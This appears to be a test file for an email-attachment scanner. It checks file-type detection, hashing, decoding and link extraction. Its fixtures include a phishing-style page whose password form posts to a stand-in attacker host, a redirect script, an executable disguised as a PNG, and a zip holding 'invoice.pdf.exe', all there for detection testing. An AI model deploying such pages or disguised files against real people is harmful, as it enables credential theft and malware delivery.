"""What is attached: type, hash, and what it says."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile

import pytest

from icelos.data.parse.mime import content_fields, undone
from icelos.jobs.mail.reading import attachments
from icelos.jobs.mail.reading.aside import Aside, Found
from icelos.jobs.mail.reading.attachments import Attachment, Opener, decoded, told
from icelos.jobs.mail.reading.markup import Link
from icelos.jobs.mail.reading.message import Message, read_message


def mail(data: bytes, kind: str = "application/octet-stream", name: str = "a") -> Message:
    head = f"From: a@b.example\nSubject: s\nContent-Type: {kind}; name={name}\n"
    raw = head.encode() + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(data)
    return read_message(raw)


def test_type_size_and_hash_are_of_the_decoded_content() -> None:
    data = b"MZ\x90\x00" + b"x" * 10_000
    [found] = mail(data, "image/png", "photo.png").attachments
    assert (found.name, found.content_type, found.kind, found.size) == (
        "photo.png",
        "image/png",
        "exe",
        len(data),
    )
    assert found.sha256 == hashlib.sha256(data).hexdigest()
    assert found.head == data[:4096]


@pytest.mark.parametrize("size", [0, 1, 2, 3, 999, 1000, 1001, 5000])
@pytest.mark.parametrize("width", [4, 57, 76])
def test_large_parts_are_decoded_piece_by_piece(
    size: int, width: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(attachments, "PIECE", 100)
    data = bytes(n % 251 for n in range(size))
    text = base64.b64encode(data)
    body = b"\n".join(text[at : at + width] for at in range(0, len(text), width))
    fields = content_fields([("content-transfer-encoding", b"base64")])
    found = decoded(b"before" + body + b"after", 6, 6 + len(body), fields)
    assert found == told(data)


@pytest.mark.parametrize("encoding", ["quoted-printable", "8bit"])
def test_other_encodings_go_by_lines(encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachments, "PIECE", 100)
    body = b"".join(b"line %d = a soft=\n break=3D\n" % n for n in range(50)) + b"x" * 250
    fields = content_fields([("content-transfer-encoding", encoding.encode())])
    assert decoded(body, 0, len(body), fields).size == len(undone(body, fields))


def test_of_what_is_too_large_the_beginning_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachments, "KEPT", 10)
    found = told(b"x" * 20)
    assert (found.data, found.size, found.sha256) == (b"x" * 10, 20, hashlib.sha256(b"x" * 20).hexdigest())


PAGE = b"""<html><form action='https://evil.example/in'><input type=password></form><p>Sign in</p>
<script>location = "https://evil.example/next"</script><meta http-equiv=refresh content="0; url=https://c.example/">"""


@pytest.mark.parametrize(
    ("kind", "name", "data"),
    [
        ("text/html", "a.html", PAGE),
        ("application/octet-stream", "a.htm", PAGE),
        ("application/octet-stream", "a.pdf", PAGE),
        ("text/html", "a.html", PAGE.decode().encode("utf-16")),
    ],
)
def test_a_page_is_read_as_a_browser_opens_it(kind: str, name: str, data: bytes) -> None:
    found = mail(data, kind, name)
    assert (found.attached_form, found.attached_password, found.attached_script) == (True, True, True)
    assert (found.has_form, found.asks_password) == (False, False)
    assert found.seen == "s\nSign in"
    assert {link.target for link in found.links} == {
        "https://evil.example/in", "https://evil.example/next", "https://c.example/",
    }  # fmt: skip
    assert {link.origin for link in found.links} == {"attachment"}


@pytest.mark.parametrize(
    ("kind", "name", "data", "text", "link"),
    [
        ("text/plain", "a.txt", b"see https://a.example/x", "see https://a.example/x", "https://a.example/x"),
        ("application/x-url", "a.url", b"[InternetShortcut]\nURL=https://a.example/", "[InternetShortcut]", "https://a.example/"),
        ("text/calendar", "a.ics", b"BEGIN:VCALENDAR\nSUMMARY:Meet\nURL:https://a.example/", "Meet", "https://a.example/"),
        ("image/svg+xml", "a.svg", b"<svg><a href='https://a.example/'><text>Go</text></a></svg>", "Go", "https://a.example/"),
    ],
)  # fmt: skip
def test_text_of_other_kinds(kind: str, name: str, data: bytes, text: str, link: str) -> None:
    found = mail(data, kind, name)
    assert text in found.attached_text
    assert [link.target for link in found.links] == [link]


def test_an_archive_is_listed() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("invoice.pdf.exe", "MZ")
    [found] = mail(out.getvalue(), name="a.zip").attachments
    assert (found.kind, [member.name for member in found.members], found.encrypted) == (
        "zip",
        ["invoice.pdf.exe"],
        False,
    )


def test_a_mail_in_a_file_is_read() -> None:
    head = b"From: c@d.example\nSubject: inner\nContent-Type: text/html\n\n"
    inner = head + b"<a href='https://a.example/'>inner words</a>"
    found = mail(inner, name="mail.eml")
    assert [attachment.kind for attachment in found.attachments] == ["mail"]
    assert "inner words" in found.html_text
    assert found.links == [Link("https://a.example/", "inner words")]


def test_images_are_searched_once_and_only_so_many(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[bytes] = []
    monkeypatch.setattr(attachments, "has_codes", lambda: True)

    def read(_self: Aside, _what: str, data: bytes) -> Found:
        asked.append(data)
        return Found()

    monkeypatch.setattr(Aside, "read", read)
    opener = Opener(Aside())
    pictures = [b"\x89PNG\r\n\x1a\n" + bytes([n]) * 20 for n in range(1, 20)]
    for picture in [pictures[0], *pictures]:
        opener.attachment("a.png", "image/png", told(picture))
    assert asked == pictures[: attachments.MAX_CODE_IMAGES]
    opener = Opener(Aside())
    opener.image(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1")
    assert len(asked) == attachments.MAX_CODE_IMAGES


def test_without_what_is_read_aside_the_rest_is_read() -> None:
    opener = Opener(None)
    found = opener.attachment("a.pdf", "application/pdf", told(b"%PDF-1.4"))
    assert (found.kind, found.defect) == ("pdf", "")


def test_attachments_need_no_more_than_a_name_a_type_and_a_head() -> None:
    assert Attachment("a", "b/c", b"").members == ()
